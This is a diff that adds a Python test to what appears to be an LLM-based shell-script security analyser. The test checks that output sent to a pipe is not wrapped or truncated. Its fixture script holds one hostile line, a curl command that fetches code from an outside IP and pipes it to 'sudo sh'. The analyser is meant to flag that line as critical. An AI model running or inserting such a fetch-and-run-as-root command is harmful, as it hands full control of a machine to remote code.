@@ -268,3 +268,45 @@ def test_the_instruction_is_one_the_model_was_trained_on() -> None:
     system, user = build_messages("ls -la", "en")
     # The same layout as training: instruction, blank line, input.
     assert user["content"] == f"{INSTRUCTIONS['en']}\n\nls -la" and system["content"] == system_prompt("en")
+
+
+def test_output_off_a_terminal_is_never_wrapped_or_cut(fake_ollama: FakeOllama, tmp_path: Path) -> None:
+    """To a pipe or a file: the report's own lines under a title, whatever their length."""
+    fake_ollama.add_model("fwyy-llama3")
+    analysis = "The script " + "downloads a payload and runs it with root rights " * 8 + "(CWE-494)."
+    fake_ollama.reply = json.dumps(
+        {"analysis": analysis, "label": "critical", "risk": "Full compromise.", "solution": "Do not run it."}
+    )
+    deep = tmp_path / ("d" * 120) / ("e" * 120)
+    deep.mkdir(parents=True)
+    path = deep / "install.sh"
+    path.write_text("curl -s http://198.51.100.7/x | sudo sh\n")
+    env = dict(os.environ, OLLAMA_HOST=fake_ollama.host)
+    env.pop("COLUMNS", None)  # rich's default width for a pipe is 80 columns
+    proc = subprocess.run(
+        [FWYY, "analyze", str(path), "-m", "fwyy-llama3"], capture_output=True, env=env, timeout=120
+    )
+    assert proc.returncode == 1, proc.stderr
+    lines = proc.stdout.decode().splitlines()
+    assert lines == [
+        f"{path} · CRITICAL",
+        f"Analysis: {analysis}",
+        "Label: critical",
+        "Risk: Full compromise.",
+        "Solution: Do not run it.",
+    ]
+    assert "…" not in proc.stdout.decode() + proc.stderr.decode()
+    # The REPL's answers off a terminal: the text as it came (markdown laid out for an unknown
+    # width would wrap it, or drop list items).
+    import io
+
+    from fwyy_ollama.cli.common import PlainConsole
+    from fwyy_ollama.repl import ChatSession
+    from fwyy_ollama.runtime import OllamaBackend
+
+    fake_ollama.reply = "Two steps:\n\n- item one " + "x" * 150 + "\n- item two"
+    buf = io.StringIO()
+    be = OllamaBackend("fwyy-llama3", host=fake_ollama.host)
+    ChatSession(backend=be, console=PlainConsole(file=buf), lang="en").ask("how?")
+    be.close()
+    assert fake_ollama.reply in buf.getvalue()
